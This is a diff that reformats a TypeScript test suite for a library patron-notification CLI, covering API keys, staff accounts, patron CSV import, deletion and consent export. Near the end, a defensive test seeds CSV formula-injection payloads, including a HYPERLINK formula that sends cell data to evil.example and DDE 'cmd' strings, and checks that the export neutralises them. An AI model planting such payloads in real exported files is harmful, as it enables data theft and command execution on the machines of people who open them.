@@ -3,18 +3,23 @@ import { spawn } from 'node:child_process'
 import { createHash } from 'node:crypto'
 import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { fileURLToPath } from 'node:url'
 import { after, before, describe, test } from 'node:test'
+import { fileURLToPath } from 'node:url'
 import { parse as parseCsv } from 'csv-parse/sync'
 import { verifySecret } from '../../src/services/passwords.js'
 import { openStore, type Store } from '../../src/store/store.js'
 import { envFor, freshDatabaseUrl, queryDb } from '../support/database.js'
-import { WebClient, visibleText } from '../support/staffClient.js'
+import { visibleText, WebClient } from '../support/staffClient.js'
 import { startTestApp, type TestApp } from '../support/testApp.js'
 
 const repoRoot = fileURLToPath(new URL('../..', import.meta.url))
 
-interface CliRun { code: number; stdout: string; stderr: string; ms: number }
+interface CliRun {
+  code: number
+  stdout: string
+  stderr: string
+  ms: number
+}
 
 /** `webpac …` as a separate process, the way an admin runs it beside the server. */
 function runCli(dir: string, args: string[], options: { input?: string; env?: Record<string, string> } = {}): Promise<CliRun> {
@@ -34,8 +39,12 @@ function runCli(dir: string, args: string[], options: { input?: string; env?: Re
   })
   let stdout = ''
   let stderr = ''
-  child.stdout.on('data', (chunk: Buffer) => { stdout += chunk.toString() })
-  child.stderr.on('data', (chunk: Buffer) => { stderr += chunk.toString() })
+  child.stdout.on('data', (chunk: Buffer) => {
+    stdout += chunk.toString()
+  })
+  child.stderr.on('data', (chunk: Buffer) => {
+    stderr += chunk.toString()
+  })
   child.stdin.end(options.input ?? '')
   return new Promise((resolve) => child.once('close', (code) => resolve({ code: code ?? -1, stdout, stderr, ms: Date.now() - started })))
 }
@@ -50,7 +59,9 @@ describe('webpac CLI (SPEC 6)', () => {
     app = await startTestApp()
     store = app.services.store
   })
-  after(async () => { await app.close() })
+  after(async () => {
+    await app.close()
+  })
 
   describe('usage and exit codes', () => {
     test('no command, an unknown command or a missing argument exits 2 with the usage; --help exits 0', async () => {
@@ -134,7 +145,10 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.match(run.stderr, /cannot be shown again/)
       const hash = createHash('sha256').update(key).digest('hex')
       const rows = await queryDb<{ name: string }>(store.location, 'SELECT name FROM api_keys WHERE key_hash = ?', hash)
-      assert.deepEqual(rows.map((row) => row.name), ['sierra-notices'])
+      assert.deepEqual(
+        rows.map((row) => row.name),
+        ['sierra-notices'],
+      )
       const response = await fetch(`${app.url}/api/v1/alerts/1`, { headers: { authorization: `Bearer ${key}` } })
       assert.notEqual(response.status, 401)
       const empty = await cli(['apikey', 'create', ' '])
@@ -144,7 +158,9 @@ describe('webpac CLI (SPEC 6)', () => {
 
   describe('finding 9: staff accounts', () => {
     const wrongPassword = 'The username or password is not right.'
-    before(async () => { assert.equal((await cli(['staff', 'add', 'day.desk'], { input: 'day-password-12\n' })).code, 0) })
+    before(async () => {
+      assert.equal((await cli(['staff', 'add', 'day.desk'], { input: 'day-password-12\n' })).code, 0)
+    })
 
     async function staffSession(username: string, password: string): Promise<WebClient> {
       const client = new WebClient(app.url)
@@ -231,7 +247,7 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.match(unknown.stderr, /no API key named "never-made"/)
     })
 
-    test('apikey list shows each key\'s name, creation date and last use (or never), and revoked ones; never a key or its hash', async () => {
+    test("apikey list shows each key's name, creation date and last use (or never), and revoked ones; never a key or its hash", async () => {
       const used = (await cli(['apikey', 'create', 'list-used'])).stdout.trim()
       const unused = (await cli(['apikey', 'create', 'list-unused'])).stdout.trim()
       const revoked = (await cli(['apikey', 'create', 'list-revoked'])).stdout.trim()
@@ -265,24 +281,34 @@ describe('webpac CLI (SPEC 6)', () => {
   describe('patrons import', () => {
     test('import keeps good rows, reports each bad row by line and reason, keeps an invalid mobile as typed with a warning, hashes PINs, allows empty PINs, and opts no one in', async () => {
       const existing = await store.repos.patrons.insert({
-        barcode: '3100000000000', name: 'Already Here', pin_hash: null, email: '', tele1: '', mobile: '', created_at: 'x', updated_at: 'x',
+        barcode: '3100000000000',
+        name: 'Already Here',
+        pin_hash: null,
+        email: '',
+        tele1: '',
+        mobile: '',
+        created_at: 'x',
+        updated_at: 'x',
       })
       const file = join(app.dir, 'small.csv')
-      writeFileSync(file, [
-        'barcode,name,pin,email,mobile', // 1
-        '3100000000001,"Lovelace, Ada",1234,ada@example.org,(201) 555-0801', // 2
-        ',No Barcode,,,', // 3
-        '3100000000003,,,,', // 4
-        '3100000000004,Bad Email,,not-an-email,', // 5
-        '3100000000005,Bad Mobile,,,12345', // 6
-        '3100000000000,Existing Barcode,,,', // 7
-        '3100000000001,Twice In File,,,', // 8
-        '3100000000009,Too,Few', // 9
-        '3100000000010,"Multi', // 10
-        'Line Name",,,', // 11
-        '', // 12: blank lines are skipped
-        '3100000000012,No Pin,,,+44 7400 123456', // 13
-      ].join('\r\n'))
+      writeFileSync(
+        file,
+        [
+          'barcode,name,pin,email,mobile', // 1
+          '3100000000001,"Lovelace, Ada",1234,ada@example.org,(201) 555-0801', // 2
+          ',No Barcode,,,', // 3
+          '3100000000003,,,,', // 4
+          '3100000000004,Bad Email,,not-an-email,', // 5
+          '3100000000005,Bad Mobile,,,12345', // 6
+          '3100000000000,Existing Barcode,,,', // 7
+          '3100000000001,Twice In File,,,', // 8
+          '3100000000009,Too,Few', // 9
+          '3100000000010,"Multi', // 10
+          'Line Name",,,', // 11
+          '', // 12: blank lines are skipped
+          '3100000000012,No Pin,,,+44 7400 123456', // 13
+        ].join('\r\n'),
+      )
       const run = await cli(['patrons', 'import', file])
       assert.equal(run.code, 1, 'rows were rejected')
       const problems = run.stdout.split('\n').filter((line) => line.startsWith('line '))
@@ -314,7 +340,10 @@ describe('webpac CLI (SPEC 6)', () => {
         assert.equal(await store.repos.registrations.findByPatron(patron!.id), undefined, `${barcode} is not opted in`)
       }
       const found = await app.services.staff.search.search('+1 201-555-0801')
-      assert.deepEqual(found.rows.map((row) => row.barcode), ['3100000000001'])
+      assert.deepEqual(
+        found.rows.map((row) => row.barcode),
+        ['3100000000001'],
+      )
     })
 
     test('import of a file whose rows are all good exits 0; a missing file or a wrong header exits 1 and imports nothing', async () => {
@@ -326,7 +355,10 @@ describe('webpac CLI (SPEC 6)', () => {
 
       const header = join(app.dir, 'header.csv')
       writeFileSync(header, 'barcode,name,pin,email,phone\n3200000000002,Wrong Header,,,\n')
-      const [missing, wrong] = await Promise.all([cli(['patrons', 'import', join(app.dir, 'nope.csv')]), cli(['patrons', 'import', header])])
+      const [missing, wrong] = await Promise.all([
+        cli(['patrons', 'import', join(app.dir, 'nope.csv')]),
+        cli(['patrons', 'import', header]),
+      ])
       assert.equal(missing.code, 1)
       assert.match(missing.stderr, /webpac: cannot read .*nope\.csv: no such file/)
       assert.equal(wrong.code, 1)
@@ -334,7 +366,9 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.equal(await store.repos.patrons.findByBarcode('3200000000002'), undefined)
     })
 
-    test('import of 100,000 rows with 1% bad rows, beside the running server: every bad line reported, 99,000 kept, memory flat, under 60 s', { timeout: 120_000 }, async (t) => {
+    test('import of 100,000 rows with 1% bad rows, beside the running server: every bad line reported, 99,000 kept, memory flat, under 60 s', {
+      timeout: 120_000,
+    }, async (t) => {
       const file = join(app.dir, 'big.csv')
       const badLines = new Set<number>()
       const out = createWriteStream(file)
@@ -346,7 +380,7 @@ describe('webpac CLI (SPEC 6)', () => {
         if (row % 100 === 37) {
           badLines.add(line)
           // Four kinds of bad row, in turn.
-          text = [`,No Barcode ${row},,,`, `${barcode},,,,`, `${barcode},Bad Email,,nope,`, `${barcode},Short Row`][(row / 100) % 4 | 0]!
+          text = [`,No Barcode ${row},,,`, `${barcode},,,,`, `${barcode},Bad Email,,nope,`, `${barcode},Short Row`][((row / 100) % 4) | 0]!
         } else {
           const pin = row % 2_000 === 5 ? '4321' : ''
           const mobile = row % 1_000 === 11 ? '555-12' : row % 10 === 0 ? `(973) 555-${String(row % 10_000).padStart(4, '0')}` : ''
@@ -359,13 +393,24 @@ describe('webpac CLI (SPEC 6)', () => {
       let healthChecks = 0
       let healthy = true
       const polling = setInterval(() => {
-        fetch(`${app.url}/healthz`).then((response) => { healthChecks += 1; healthy &&= response.ok }, () => { healthy = false })
+        fetch(`${app.url}/healthz`).then(
+          (response) => {
+            healthChecks += 1
+            healthy &&= response.ok
+          },
+          () => {
+            healthy = false
+          },
+        )
       }, 250)
       const run = await runCli(app.dir, ['patrons', 'import', file], { env: envFor(store) })
       clearInterval(polling)
 
       assert.equal(run.code, 1)
-      const reported = run.stdout.split('\n').filter((line) => /^line \d+: rejected:/.test(line)).map((line) => Number(/^line (\d+)/.exec(line)![1]))
+      const reported = run.stdout
+        .split('\n')
+        .filter((line) => /^line \d+: rejected:/.test(line))
+        .map((line) => Number(/^line (\d+)/.exec(line)![1]))
       assert.deepEqual(new Set(reported), badLines)
       assert.equal(reported.length, 1_000)
       assert.match(run.stdout, /Imported 99,000 of 100,000 rows/)
@@ -387,16 +432,33 @@ describe('webpac CLI (SPEC 6)', () => {
   describe('patrons delete', () => {
     test('SPEC 4.8 patrons delete BARCODE deletes the record silently and records a staff event by "cli"; an unknown barcode exits 1', async () => {
       const id = await store.repos.patrons.insert({
-        barcode: '5100000000001', name: 'Cli Deleted', pin_hash: null, email: '', tele1: '', mobile: '(201) 555-0950', created_at: 'x', updated_at: 'x',
+        barcode: '5100000000001',
+        name: 'Cli Deleted',
+        pin_hash: null,
+        email: '',
+        tele1: '',
+        mobile: '(201) 555-0950',
+        created_at: 'x',
+        updated_at: 'x',
       })
       const at = new Date().toISOString()
-      await store.repos.registrations.save({ patron_id: id, status: 'opted_in', e164: '+12015550950', terms_hash: null, invited_at: at, status_changed_at: at })
+      await store.repos.registrations.save({
+        patron_id: id,
+        status: 'opted_in',
+        e164: '+12015550950',
+        terms_hash: null,
+        invited_at: at,
+        status_changed_at: at,
+      })
       const run = await cli(['patrons', 'delete', '5100000000001'])
       assert.equal(run.code, 0, run.stderr)
       assert.match(run.stdout, /Deleted patron 5100000000001 \(Cli Deleted\)\. SMS status was Opted In: opted out silently/)
       assert.equal(await store.repos.patrons.findById(id), undefined)
       const events = await store.repos.consent.listForBarcode('5100000000001')
-      assert.deepEqual(events.map((event) => [event.channel, event.actor, event.to_status, event.reason]), [['staff', 'cli', 'not_opted_in', 'record_deleted']])
+      assert.deepEqual(
+        events.map((event) => [event.channel, event.actor, event.to_status, event.reason]),
+        [['staff', 'cli', 'not_opted_in', 'record_deleted']],
+      )
       assert.deepEqual(app.services.simulator!.conversation('+12015550950'), [])
 
       const again = await cli(['patrons', 'delete', '5100000000001'])
@@ -414,8 +476,19 @@ describe('webpac CLI (SPEC 6)', () => {
       const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
       const env = envFor(own)
       const event = (at: string, userAgent: string | null) => ({
-        patron_id: 1, barcode: '6100000000001', e164: '+12015550123', from_status: 'not_opted_in' as const, to_status: 'pending_optin' as const,
-        channel: 'web' as const, reason: 'web_opt_in', terms_hash: 'abc', at, ip: '192.0.2.1', user_agent: userAgent, inbound_message_id: null, actor: null,
+        patron_id: 1,
+        barcode: '6100000000001',
+        e164: '+12015550123',
+        from_status: 'not_opted_in' as const,
+        to_status: 'pending_optin' as const,
+        channel: 'web' as const,
+        reason: 'web_opt_in',
+        terms_hash: 'abc',
+        at,
+        ip: '192.0.2.1',
+        user_agent: userAgent,
+        inbound_message_id: null,
+        actor: null,
       })
       await own.repos.consent.append(event('2025-01-10T12:00:00.000Z', 'Browser "Quoted", with comma'))
       await own.repos.consent.append(event('2025-02-10T12:00:00.000Z', 'Line\nbreak'))
@@ -427,15 +500,21 @@ describe('webpac CLI (SPEC 6)', () => {
         runCli(dir, ['consent', 'export', '--since', '2025-02-30'], { env }),
       ])
       assert.equal(all.code, 0, all.stderr)
-      assert.equal(all.stdout, [
-        'id,at,patron_id,barcode,e164,from_status,to_status,channel,reason,terms_hash,ip,user_agent,inbound_message_id,actor',
-        "1,2025-01-10T12:00:00.000Z,1,6100000000001,'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,\"Browser \"\"Quoted\"\", with comma\",,",
-        "2,2025-02-10T12:00:00.000Z,1,6100000000001,'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,\"Line\nbreak\",,",
-        '',
-      ].join('\r\n'))
+      assert.equal(
+        all.stdout,
+        [
+          'id,at,patron_id,barcode,e164,from_status,to_status,channel,reason,terms_hash,ip,user_agent,inbound_message_id,actor',
+          '1,2025-01-10T12:00:00.000Z,1,6100000000001,\'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Browser ""Quoted"", with comma",,',
+          '2,2025-02-10T12:00:00.000Z,1,6100000000001,\'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Line\nbreak",,',
+          '',
+        ].join('\r\n'),
+      )
 
       assert.equal(since.code, 0)
-      assert.deepEqual(since.stdout.split('\r\n').map((line) => line.split(',')[0]), ['id', '2', ''])
+      assert.deepEqual(
+        since.stdout.split('\r\n').map((line) => line.split(',')[0]),
+        ['id', '2', ''],
+      )
 
       assert.equal(bad.code, 2)
       assert.match(bad.stderr, /YYYY-MM-DD/)
@@ -450,17 +529,27 @@ describe('webpac CLI (SPEC 6)', () => {
       const env = envFor(own)
       const attacks = [
         '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
-        '+cmd|\' /C calc\'!A0',
-        '-2+3+cmd|\' /C calc\'!A0',
-        '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
         '\t=1+1',
         '\r=1+1',
       ]
       for (const [index, userAgent] of attacks.entries()) {
         await own.repos.consent.append({
-          patron_id: 1, barcode: `=${index}`, e164: '+12015550123', from_status: 'not_opted_in', to_status: 'pending_optin',
-          channel: 'web', reason: 'web_opt_in', terms_hash: null, at: `2025-03-0${index + 1}T12:00:00.000Z`, ip: '192.0.2.1',
-          user_agent: userAgent, inbound_message_id: null, actor: '@staff',
+          patron_id: 1,
+          barcode: `=${index}`,
+          e164: '+12015550123',
+          from_status: 'not_opted_in',
+          to_status: 'pending_optin',
+          channel: 'web',
+          reason: 'web_opt_in',
+          terms_hash: null,
+          at: `2025-03-0${index + 1}T12:00:00.000Z`,
+          ip: '192.0.2.1',
+          user_agent: userAgent,
+          inbound_message_id: null,
+          actor: '@staff',
         })
       }
       await own.close()
@@ -470,8 +559,15 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
       const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
       const readable = attacks.map((attack) => `'${attack}`)
-      assert.deepEqual(rows.map((row) => row.user_agent), readable, 'each value stays readable after the quote')
-      assert.deepEqual(rows.map((row) => row.barcode), attacks.map((_, index) => `'=${index}`))
+      assert.deepEqual(
+        rows.map((row) => row.user_agent),
+        readable,
+        'each value stays readable after the quote',
+      )
+      assert.deepEqual(
+        rows.map((row) => row.barcode),
+        attacks.map((_, index) => `'=${index}`),
+      )
       assert.deepEqual(new Set(rows.map((row) => row.actor)), new Set(["'@staff"]))
       for (const row of rows) {
         for (const [column, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} could start a formula`)
